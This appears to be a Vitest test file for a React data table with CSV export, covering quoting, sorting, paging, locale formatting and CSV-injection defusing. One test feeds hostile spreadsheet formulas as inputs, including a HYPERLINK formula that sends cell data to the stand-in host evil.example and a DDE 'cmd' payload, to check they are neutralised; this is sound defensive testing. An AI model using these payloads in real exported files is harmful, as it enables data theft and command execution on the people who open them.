import { afterEach, describe, expect, it, vi } from 'vitest';
import { render, screen, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import '../../testing/test-utils';
import { DataTable, type Column } from './data-table';
import { toCsv } from './csv';
import { createFormatters } from '../format';

type Row = { symbol: string; change: number | null };
const rows: Row[] = Array.from({ length: 30 }, (_, i) => ({
  symbol: `S${String(i).padStart(2, '0')}`,
  change: i === 3 ? null : (i % 7) - 3,
}));
const columns: Column<Row>[] = [
  { key: 'symbol', label: 'Symbol', text: (r) => r.symbol },
  {
    key: 'change',
    label: 'Change',
    sortValue: (r) => r.change,
    text: (r) => (r.change === null ? '—' : `${r.change}%`),
  },
  {
    key: 'action',
    label: 'Action',
    csv: false,
    text: () => '',
    render: (r) => <button type="button">Add {r.symbol}</button>,
  },
];

const spies: { mockRestore: () => void }[] = [];
async function exportedCsv(): Promise<string> {
  let blob: Blob | undefined;
  const created = vi.spyOn(URL, 'createObjectURL').mockImplementation((b) => {
    blob = b as Blob;
    return 'blob:test';
  });
  spies.push(
    created,
    vi.spyOn(URL, 'revokeObjectURL').mockImplementation(() => undefined),
  );
  spies.push(vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => undefined));
  await userEvent.click(screen.getByRole('button', { name: 'Export CSV' }));
  return blob!.text();
}

afterEach(() => {
  for (const s of spies.splice(0)) s.mockRestore();
});

describe('data table', () => {
  it('quotes CSV fields that need it', () => {
    expect(
      toCsv(
        ['a', 'b'],
        [
          ['x,y', 'say "hi"'],
          ['1', '2'],
        ],
      ),
    ).toBe('a,b\r\n"x,y","say ""hi"""\r\n1,2\r\n');
  });

  it('defuses cells a spreadsheet would run as a formula (CSV injection), keeping numbers', () => {
    const csv = toCsv(
      ['Name', 'Change'],
      [
        ['=HYPERLINK("http://evil.example/?"&A1,"x")', '-4.17'],
        ["+1+cmd|' /C calc'!A0", '+%4,17'],
        ['-2+3', '-4,17 %'],
        ['@SUM(A1:A2)', '-1.234,5'],
        ['\t=1+1', '-1e-7'],
        ['\r=1+1', '-12\u00a0345,60'],
        ['Plain', '0.5'],
      ],
    );
    expect(csv.split('\r\n')).toEqual([
      'Name,Change',
      `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",-4.17`,
      `"'+1+cmd|' /C calc'!A0","+%4,17"`,
      `"'-2+3","-4,17 %"`,
      `"'@SUM(A1:A2)","-1.234,5"`,
      `"'\t=1+1",-1e-7`,
      `"'\r=1+1","-12\u00a0345,60"`,
      'Plain,0.5',
      '',
    ]);
  });

  it('neutralises a hostile cell in the exported file', async () => {
    render(
      <DataTable
        rows={[{ symbol: '=1+2', change: -4.17 }]}
        columns={columns}
        rowKey={(r) => r.symbol}
        caption="Test"
        filename="t.csv"
      />,
    );
    expect(await exportedCsv()).toBe(`Symbol,Change\r\n"'=1+2",-4.17%\r\n`);
  });

  it('sorts by a column, nulls last, both ways, and pages', async () => {
    render(
      <DataTable
        rows={rows}
        columns={columns}
        rowKey={(r) => r.symbol}
        caption="Test"
        filename="t.csv"
        pageSize={10}
      />,
    );
    expect(screen.getByText('Rows 1–10 of 30')).toBeInTheDocument();
    await userEvent.click(screen.getByRole('button', { name: /Change/ }));
    const first = () => within(screen.getAllByRole('row')[1]!).getAllByRole('cell')[1]!.textContent;
    expect(first()).toBe('3%');
    expect(screen.getByRole('columnheader', { name: /Change/ })).toHaveAttribute('aria-sort', 'descending');
    await userEvent.click(screen.getByRole('button', { name: /Change/ }));
    expect(first()).toBe('-3%');
    await userEvent.click(screen.getByRole('button', { name: 'Next' }));
    await userEvent.click(screen.getByRole('button', { name: 'Next' }));
    expect(screen.getByText('Page 3 of 3')).toBeInTheDocument();
    const cells = screen
      .getAllByRole('row')
      .slice(1)
      .map((r) => within(r).getAllByRole('cell')[1]!.textContent);
    expect(cells[cells.length - 1]).toBe('—');
  });

  it('exports raw values whatever the display language: full precision, ISO dates, units in headers', async () => {
    type Bar = { day: string; change: number | null; close: number };
    const f = createFormatters('tr-TR', 'Europe/Istanbul');
    const barColumns: Column<Bar>[] = [
      { key: 'day', label: 'Date', text: (r) => f.date(r.day), csvValue: (r) => r.day },
      {
        key: 'change',
        label: <abbr title="Change">Chg</abbr>,
        csvLabel: 'Change',
        unit: 'fraction',
        text: (r) => f.percent(r.change),
        csvValue: (r) => r.change,
      },
      { key: 'close', label: 'Close', unit: 'USD', text: (r) => f.number(r.close), csvValue: (r) => r.close },
    ];
    render(
      <DataTable
        rows={[
          { day: '2026-11-20', change: 0.012345678, close: 1234.5678 },
          { day: '2026-11-19', change: null, close: -0.5 },
        ]}
        columns={barColumns}
        rowKey={(r) => r.day}
        caption="Bars"
        filename="bars.csv"
      />,
    );
    // On screen: the display language's formats.
    expect(screen.getByText('20.11.2026')).toBeInTheDocument();
    expect(screen.getByText('+%1,23')).toBeInTheDocument();
    expect(screen.getByText('1.234,57')).toBeInTheDocument();
    expect(await exportedCsv()).toBe(
      'Date,Change (fraction),Close (USD)\r\n2026-11-20,0.012345678,1234.5678\r\n2026-11-19,,-0.5\r\n',
    );
  });

  it('exports exactly the rows and columns on screen, as shown', async () => {
    render(
      <DataTable rows={rows} columns={columns} rowKey={(r) => r.symbol} caption="Test" filename="t.csv" pageSize={3} />,
    );
    await userEvent.click(screen.getByRole('button', { name: 'Next' }));
    expect(await exportedCsv()).toBe('Symbol,Change\r\nS03,—\r\nS04,1%\r\nS05,2%\r\n');
  });
});
